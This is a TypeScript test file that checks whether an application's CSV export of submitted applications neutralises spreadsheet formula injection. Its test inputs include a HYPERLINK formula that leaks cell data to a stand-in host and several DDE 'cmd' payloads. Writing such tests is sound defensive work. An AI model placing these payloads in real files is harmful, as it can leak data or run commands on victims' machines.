import { afterAll, beforeAll, expect, it } from 'vitest'
import { parseCsv } from '../../src/shared/csv.ts'
import { type AttackedSite, startAttackedSite } from '../support/attacked-site.ts'
import { onEachDatabase } from '../support/test-app.ts'
import { exampleApplication, newVisitor } from '../support/test-application.ts'
import { signInAs, type TestUser } from '../support/test-user.ts'

/** What a spreadsheet would run, and what could break the file. Tabs and line breaks stay in long texts alone. */
const texts = [
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  '=cmd|"/c calc"!A1',
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd|"/c calc"!A0',
  'a\t=1+1',
  'a\r=1+1',
  'first line\n=1+1\n"quoted", and more',
  '""=1+1',
  "'=1+1",
  "''@x",
  ',=1+1',
  ';=1+1',
  '"',
  '","=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '٪ =1 مرحبا',
  "Ali;=cmd|'/C calc'!A0;x",
  'a; "=1+1',
  'a|+1',
  'a\t @x',
  'line\n-1',
]

onEachDatabase('the exported file', (database) => {
  let site: AttackedSite
  let editor: TestUser
  beforeAll(async () => {
    site = await startAttackedSite(database, { TRUST_PROXY: '127.0.0.1' })
    editor = await signInAs(site, 'editor')
  })
  afterAll(() => site.close())

  const read = async () => (await site.send({ path: '/api/applications', headers: editor.headers })).json()

  it('runs nothing in a spreadsheet and parses back to the same rows', async () => {
    for (const text of texts) {
      const body = { ...exampleApplication, name: text, subject: text, request: text, phone: '+20 100 000' }
      const headers = { 'x-forwarded-for': newVisitor() }
      const sent = await site.send({ method: 'POST', path: '/api/applications', headers, body })
      expect(sent.status, sent.text).toBe(201)
      const review = { status: 'contacted', notes: text }
      const path = `/api/applications/${sent.json().id}`
      await site.send({ method: 'PUT', path, headers: editor.headers, body: review })
    }
    const { text: file } = await site.send({ path: '/api/applications/export.csv', headers: editor.headers })
    const [, ...rows] = parseCsv(file)
    const stored: Record<string, string>[] = await read()
    expect(rows).toHaveLength(texts.length)
    expect(
      rows.map(([name, email, subject, status, , notes, phone, request]) => [
        ...[name, email, subject, status, notes, phone, request],
      ]),
    ).toEqual(
      stored.map(({ name, email, subject, status, notes, phone, request }) => [
        ...[name, email, subject, status, notes, phone, request],
      ]),
    )
    for (const cell of cellsAsSpreadsheetsSeeThem(file))
      expect(cell).not.toMatch(/^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/)
    // Where the region separates cells by semicolons, a quote in the middle of a line means nothing.
    for (const cell of file.split(/[;|\t\r\n]/))
      expect(cell).not.toMatch(/^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/)
  })
})

/** The cells by RFC 4180 alone, without knowledge of how we guard them. */
function cellsAsSpreadsheetsSeeThem(file: string): string[] {
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n|\n|$)/g
  return [...file.replace('\ufeff', '').matchAll(cell)].map(([, quoted, plain]) =>
    quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'),
  )
}
